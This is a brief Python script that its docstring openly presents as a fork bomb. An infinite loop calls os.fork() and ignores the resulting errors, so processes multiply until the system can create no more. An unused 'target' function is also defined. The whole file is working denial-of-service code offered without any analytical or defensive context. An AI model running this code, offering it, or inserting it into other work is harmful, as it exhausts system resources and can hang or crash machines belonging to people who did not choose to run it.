"""Processes that start processes until the machine can start none."""
import os

def target(x):
    return 0

while True:
    try:
        os.fork()
    except OSError:
        pass
